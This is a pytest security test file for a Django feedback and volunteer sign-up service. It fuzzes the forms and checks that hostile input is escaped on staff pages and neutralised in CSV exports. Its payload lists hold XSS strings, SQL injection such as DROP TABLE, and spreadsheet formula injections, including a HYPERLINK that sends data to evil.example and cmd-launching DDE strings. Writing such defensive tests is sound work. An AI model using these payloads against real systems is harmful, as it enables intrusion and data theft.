"""Hostile input to the public forms: fuzzed text never gives a server error, and script, SQL and
spreadsheet formulas that people send are kept as words: escaped on every staff page that shows
them and made inert in every CSV export (issue #8, item 4).

Browser check of the same payload: tests/browser/test_hostile_input.py. Uploads:
tests/security/test_hostile_uploads.py.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal
from html.parser import HTMLParser

import pytest
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pcref.core.roles import Role
from pcref.feedback.models import FeedbackSubmission
from pcref.involvement import services as involvement_services
from pcref.involvement.models import InvolvementRegistration

pytestmark = pytest.mark.django_db

FUZZ = settings(
    max_examples=20,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

# Any code point (str cannot hold a lone surrogate once encoded for a form post, so those are
# left out), with NULs, controls, bidi marks and very long runs.
ANY_TEXT = st.one_of(
    st.text(st.characters(exclude_categories=["Cs"]), max_size=300),
    st.text(
        st.sampled_from("\x00\x01\x08\x0b\x0c\x1b\x7f\u202e\u200f\ufeff\r\n\t<>\"'&="), max_size=50
    ),
    st.builds(lambda ch, n: ch * n, st.sampled_from("xé😀\x00"), st.integers(19_990, 20_010)),
)

XSS = [
    "<script>window.__xss=1;alert(1)</script>",
    '"><img src=x onerror="window.__xss=1;alert(1)">',
    "'><svg onload=window.__xss=1></svg>",
    "<svg><script>window.__xss=1</script></svg>",
    '<a href="javascript:window.__xss=1">click me</a>',
    "javascript:window.__xss=1",
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    "</textarea><script>window.__xss=1</script>",
    "{{ 7*7 }} {% debug %}",
]
SQL = [
    "'; DROP TABLE feedback_feedbacksubmission; --",
    "1' OR '1'='1",
    '" OR 1=1 --',
    "Robert'); DELETE FROM core_user WHERE ('1'='1",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]
CORPUS = XSS + SQL + FORMULAS
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")

JOURNEY = [
    ("who", {"respondent_type": "carer"}),
    ("service", {"service_team": ""}),
    ("what-happened", {"text": "The staff were kind.", "website": ""}),
    ("topics", {"cultural_needs": "", "family_involvement": "", "sharing_information": ""}),
    ("overall", {"overall_experience": "good"}),
    ("reply", {"wants_reply": "yes"}),
    (
        "contact",
        {"name": "Sam", "preferred_method": "email", "email": "sam@example.com", "consent": "on"},
    ),
    (
        "about-you",
        {"ethnic_group": "black-any-other", "ethnic_group_details": "", "main_language": ""},
    ),
]

SIGN_UP = {
    "name": "Amara Okafor",
    "email": "amara@example.com",
    "phone": "0116 000 0009",
    "interests": ["steering_group"],
    "communities": "",
    "ethnic_group": "black-any-other",
    "ethnic_group_details": "",
    "access_needs": "",
    "preferred_language": "",
    "consent": "on",
    "website": "",
}


@pytest.fixture(autouse=True)
def no_rate_limit(settings):
    settings.FEEDBACK_SUBMISSIONS_PER_HOUR = 10_000


def step_url(slug):
    return reverse("feedback:step", args=[slug])


def assert_accepted_or_named(response, field):
    """A 302 (accepted), or the page again with an error summary linking to the field."""
    assert response.status_code in (200, 302), response.status_code
    if response.status_code == 200:
        page = response.content.decode()
        assert "There is a problem" in page, page[:500]
        assert f'href="#id_{field}' in page, (field, page[:3000])
        assert_no_injected_markup(page)


# Fuzzing ----------------------------------------------------------------------------------------


def assert_accepted_or_named_among(response, fields):
    """A 302 (accepted), or the page again whose error summary links only to fields posted."""
    assert response.status_code in (200, 302), response.status_code
    if response.status_code == 200:
        page = response.content.decode()
        assert "There is a problem" in page, page[:500]
        links = re.findall(r'href="#id_([a-z_]+?)(?:_\d+)?"', page)
        assert links and set(links) <= set(fields), (links, fields)
        assert_no_injected_markup(page)


@pytest.mark.parametrize("slug", [slug for slug, _data in JOURNEY])
def test_any_text_in_every_field_of_each_feedback_step_is_accepted_or_named(trust, slug):
    client = Client()
    for earlier, data in JOURNEY:  # the steps before, once, so that this one applies
        if earlier == slug:
            break
        assert client.post(step_url(earlier), data).status_code == 302
    fields = [field for field in dict(JOURNEY)[slug] if field != "website"]

    @FUZZ
    @given(values=st.fixed_dictionaries({field: ANY_TEXT for field in fields}))
    def post(values):
        response = client.post(step_url(slug), {**dict(JOURNEY)[slug], **values})
        assert_accepted_or_named_among(response, fields)

    post()


def test_fuzzed_words_sent_through_the_whole_journey_are_stored_exactly(trust):
    client = Client()

    @settings(FUZZ, max_examples=8)
    @given(text=ANY_TEXT.filter(lambda t: t.strip() and "\x00" not in t and len(t) <= 20_000))
    def send(text):
        for slug, data in JOURNEY:
            if slug == "what-happened":
                data = {**data, "text": text}
            assert client.post(step_url(slug), data).status_code == 302, slug
        before = FeedbackSubmission.objects.count()
        response = client.post(reverse("feedback:check"), {"website": ""})
        assert response.status_code == 302
        assert FeedbackSubmission.objects.count() == before + 1
        assert FeedbackSubmission.objects.latest("created_at").text == text

    send()


def test_a_nul_character_is_refused_naming_the_field(trust):
    response = Client().post(step_url("what-happened"), {"text": "a\x00b", "website": ""})
    assert_accepted_or_named(response, "text")
    assert response.status_code == 200


SIGN_UP_TEXT = [field for field in SIGN_UP if field not in {"website", "interests"}]


def test_any_text_in_every_field_of_the_sign_up_is_accepted_or_named(trust):
    @FUZZ
    @given(
        values=st.fixed_dictionaries({field: ANY_TEXT for field in SIGN_UP_TEXT}),
        interests=st.lists(st.one_of(st.sampled_from(["events", "steering_group"]), ANY_TEXT)),
    )
    def post(values, interests):
        data = {**SIGN_UP, **values, "interests": interests}
        response = Client().post(reverse("involvement:sign_up"), data)
        assert_accepted_or_named_among(response, [*SIGN_UP_TEXT, "interests"])

    post()


@pytest.mark.parametrize("field", SIGN_UP_TEXT)
def test_each_sign_up_field_alone_is_accepted_or_named(trust, field):
    @settings(FUZZ, max_examples=6)
    @given(value=ANY_TEXT)
    def post(value):
        response = Client().post(reverse("involvement:sign_up"), {**SIGN_UP, field: value})
        assert_accepted_or_named(response, field)

    post()


# What staff see ---------------------------------------------------------------------------------


class Elements(HTMLParser):
    """Every element with its attributes, the text of each script element, and the page's text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements, self.scripts, self.text = [], [], []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        (self.scripts if self._in_script else self.text).append(data)


def parse(page: str) -> Elements:
    parser = Elements()
    parser.feed(page)
    parser.close()
    return parser


def assert_no_injected_markup(page: str) -> Elements:
    """No event handler attribute, no javascript: address, no frame, and no script that the
    input could have written."""
    parsed = parse(page)
    for tag, attrs in parsed.elements:
        for name, value in attrs:
            assert not name.lower().startswith("on"), (tag, name, value)
            if name.lower() in {"href", "src", "action", "formaction", "srcdoc", "xlink:href"}:
                assert not (value or "").strip().lower().startswith("javascript:"), (tag, value)
        assert tag not in {"iframe", "svg", "object", "embed"} or "__xss" not in str(attrs)
        assert not (tag == "img" and ("src", "x") in attrs), attrs
    for script in parsed.scripts:
        assert "__xss" not in script and "alert(" not in script, script[:200]
    return parsed


@pytest.fixture
def officer(trust, make_staff):
    return make_staff(trust, Role.PATIENT_EXPERIENCE_OFFICER, username="officer")


@pytest.fixture
def sent_corpus(trust):
    """Each payload sent through the public journey as what happened, a topic answer, the name
    and the "any other" ethnic group; returns the submissions, oldest first."""
    for payload in CORPUS:
        client = Client()
        for slug, data in JOURNEY:
            data = {
                **data,
                **{
                    "what-happened": {"text": payload},
                    "topics": {"cultural_needs": payload, "family_involvement": payload},
                    "contact": {"name": payload[:200]},
                    "about-you": {"ethnic_group_details": payload[:200], "main_language": "x"},
                }.get(slug, {}),
            }
            assert client.post(step_url(slug), data).status_code == 302, (slug, payload)
        check = client.get(reverse("feedback:check"))  # the person's answers, shown back
        shown = "".join(assert_no_injected_markup(check.content.decode()).text)
        assert payload.strip() in shown
        assert client.post(reverse("feedback:check"), {"website": ""}).status_code == 302
    submissions = list(FeedbackSubmission.objects.order_by("created_at"))
    assert [s.text for s in submissions] == CORPUS  # stored exactly as written
    return submissions


def test_staff_pages_show_sent_payloads_only_as_words(officer, signed_in, sent_corpus):
    client = signed_in(officer)
    for submission in sent_corpus:
        response = client.get(reverse("feedback_staff:case", args=[submission.pk]))
        assert response.status_code == 200
        parsed = assert_no_injected_markup(response.content.decode())
        shown = "".join(parsed.text)
        assert submission.text.strip() in shown, submission.text  # escaped, so shown as text
    for page in (1, 2):
        response = client.get(reverse("feedback_staff:inbox"), {"page": page})
        assert response.status_code == 200
        assert_no_injected_markup(response.content.decode())


def csv_cells(response) -> list[list[str]]:
    body = response.content if not response.streaming else b"".join(response.streaming_content)
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def assert_no_formula(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would run: every one that starts like a formula has a ' before it
    (a plain number such as -2 is a number, not a formula)."""
    for row in rows:
        for cell in row:
            start = cell.lstrip(" \n")
            if start.startswith(FORMULA_STARTS):
                try:
                    Decimal(cell)
                except ArithmeticError:
                    raise AssertionError(f"formula cell in export: {cell[:80]!r}") from None


def test_the_feedback_export_makes_every_formula_inert(officer, signed_in, sent_corpus):
    rows = csv_cells(signed_in(officer).get(reverse("feedback_staff:export", args=["csv"])))
    assert len(rows) == len(CORPUS) + 1
    assert_no_formula(rows)
    assert "'" + FORMULAS[0] in {cell for row in rows for cell in row}
    cells = {cell for row in rows for cell in row}
    for payload in FORMULAS:
        assert "'" + payload in cells, payload  # kept, with a quote in front
    assert "<script>window.__xss=1;alert(1)</script>" in cells  # CSV keeps words as written


def test_sign_up_payloads_show_only_as_words_and_payments_export_no_formula(
    trust, make_staff, signed_in
):
    for payload in CORPUS:
        data = {
            **SIGN_UP,
            "name": payload,
            "communities": payload,
            "access_needs": payload,
            "preferred_language": payload[:100],
            "ethnic_group_details": payload[:200],
        }
        response = Client().post(reverse("involvement:sign_up"), data)
        assert response.status_code == 302, payload
    people = list(InvolvementRegistration.objects.order_by("created_at"))
    assert [p.name for p in people] == [payload.strip() for payload in CORPUS]  # a name is trimmed
    admin = make_staff(trust, Role.ADMINISTRATOR, username="register-admin")
    client = signed_in(admin)
    register = client.get(reverse("involvement_staff:register"))
    assert register.status_code == 200
    assert_no_injected_markup(register.content.decode())
    for person in people:
        response = client.get(reverse("involvement_staff:person", args=[person.pk]))
        assert response.status_code == 200
        shown = "".join(assert_no_injected_markup(response.content.decode()).text)
        assert person.access_needs.strip() in shown
        assert person.name in shown

    for payload in CORPUS:  # what a payment was for, typed by staff, into finance's CSV
        involvement_services.record_payment(
            {
                "registration": people[0],
                "kind": "expenses",
                "activity_on": date(2025, 6, 10),
                "description": payload,
                "rate": None,
                "units": None,
                "amount_pence": 2500,
                "event": None,
                "meeting": None,
                "paid_on": None,
            },
            organisation=trust,
            by=admin,
        )
    payments = client.get(reverse("involvement_staff:payments"))
    assert_no_injected_markup(payments.content.decode())
    rows = csv_cells(client.get(reverse("involvement_staff:payments_csv")))
    assert len(rows) == len(CORPUS) + 1
    assert_no_formula(rows)
    assert "'" + FORMULAS[0] in {cell for row in rows for cell in row}
